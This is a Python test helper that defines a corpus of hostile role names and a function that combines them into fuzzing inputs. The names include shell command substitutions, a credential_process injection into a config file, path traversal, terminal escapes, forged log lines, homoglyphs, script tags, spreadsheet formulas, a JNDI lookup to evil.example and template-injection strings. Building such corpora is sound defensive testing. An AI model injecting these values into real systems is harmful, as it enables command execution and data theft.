"""Names that attack each place they may reach: what an attacker, or a careless colleague, calls a role."""

from __future__ import annotations

from random import Random

CANARY = "hit"
"""The file that a command in a name would make, in the folder where it is run."""

INNOCENT = "prod-eu"
"""Nothing may refuse it: a sink that does would have been tried with nothing at all."""

ATTACKS = (
    # Shells, and what is filled in by them.
    f"$(touch {CANARY})",
    f"`touch {CANARY}`",
    f"; touch {CANARY} #",
    f"'; touch {CANARY}; '",
    f'"; touch {CANARY}; "',
    f"\\'; touch {CANARY}; \\'",
    f"| touch {CANARY}",
    f"&& touch {CANARY} &",
    f"\n touch {CANARY}\n",
    f"(touch {CANARY})",
    f"{{touch,{CANARY}}}",
    "${IFS}",
    "$HOME",
    "~root",
    "!!",
    "*",
    "%PATH%",
    "%COMSPEC% /c",
    "^&calc&",
    '" & calc & "',
    f"'; New-Item {CANARY}; '",
    f"\u2019; New-Item {CANARY}; \u2019",
    "$env:PATH",
    "$([IO.File]::Create('x'))",
    f"'; and touch {CANARY}; '",
    '" & (do shell script "touch x") & "',
    "\\[\\e]0;mine\\a\\]",
    f"\\$(touch {CANARY})",
    "%(touch x)s",
    "%F{red}%n%#",
    # Files that others read.
    "]",
    "[",
    "]\n[default]\ncredential_process = touch x\n[x",
    "\n[DEFAULT]\ncredential_process = touch x\n",
    "DEFAULT",
    "default",
    "Default ",
    "profile x",
    '"quoted"',
    "# comment",
    "; comment",
    "a = b",
    "=",
    "\nregion = evil",
    "\tindented",
    "'''\n[roles.other]\n",
    '"""',
    "\\u0000",
    "\r\n",
    "\x0b",
    "\x85",
    # Where a file is.
    "../x",
    "../../../../tmp/x",
    "..\\..\\x",
    "/etc/passwd",
    "C:\\x",
    "a/b",
    ".",
    "..",
    "CON",
    "NUL",
    "com1.txt",
    "aux ",
    "x:stream",
    "trailing.",
    # Options.
    "-rf",
    "--help",
    "--title=x",
    "-e touch x",
    "--",
    "@file",
    # Terminals and logs.
    "\x1b[2J",
    "\x1b]0;mine\x07",
    "\x1b]52;c;aGk=\x07",
    "\x9b31m",
    "\x08\x08\x08prod",
    "\r2026-03-01 12:00:00,000 ERROR root forged",
    "\n2026-03-01 12:00:00,000 ERROR root forged",
    # Eyes.
    "\u202egpj.dorp",
    "\u2066x\u2069",
    "pr\u200bod",
    "\ufeffprod",
    "pr\u00adod",
    "\u0440rod",
    "prod\u2028x",
    "prod\u2029x",
    "e\u0301" * 20,
    "\u0300" * 40,
    "\u05d0\u05d1\u05d2",
    "\U0001f600\u200d\U0001f525",
    "\ufdfd" * 5,
    "\U000e0041\U000e0042",
    "\u3164",
    # Markup.
    "<b>bold</b>",
    "<img src='file:///etc/passwd'>",
    "<a href='https://evil.example'>sign in</a>",
    "<script>alert(1)</script>",
    "&lt;b&gt;",
    "&amp;&Quit",
    "a&b_c",
    "]]>",
    "<!--",
    "javascript:alert(1)",
    # Spreadsheets.
    "=1+1",
    "+1",
    "-1+1",
    "@SUM(A1)",
    '=HYPERLINK("https://evil.example")',
    "\t=1+1",
    " =cmd|' /C calc'!A0",
    '","=1+1',
    # Addresses.
    "https://evil.example/",
    "//evil.example",
    "/\\evil.example",
    "x@evil.example",
    "?a=b&url=https://evil.example#x",
    "%0d%0aSet-Cookie: x",
    "%2e%2e%2f",
    # Programs' own templates.
    "{0.__class__}",
    "{user}",
    "{role.__init__.__globals__}",
    "%s%s%n",
    "${jndi:ldap://evil.example}",
    "{{7*7}}",
    # What no text is.
    "\0",
    "a\0b",
    "\ud83d",
    "\udcff",
    "",
    " ",
    "x" * 65,
    "x" * 5000,
    "\u00e9" * 64,
)


def hostile_names(random: Random, count: int) -> list[str]:
    """As many different ones: every attack by itself first, then inside of an innocent name, doubled, or two of them
    together."""
    attacks = list(dict.fromkeys(ATTACKS))
    random.shuffle(attacks)
    names = dict.fromkeys(attacks)
    while len(names) < count:
        one, other = random.choice(ATTACKS), random.choice(ATTACKS)
        names[random.choice((f"prod{one}", f"{one}prod", f"pr{one}od", one + other, f"{one} {other}", one * 2))] = None
    return list(names)[:count]
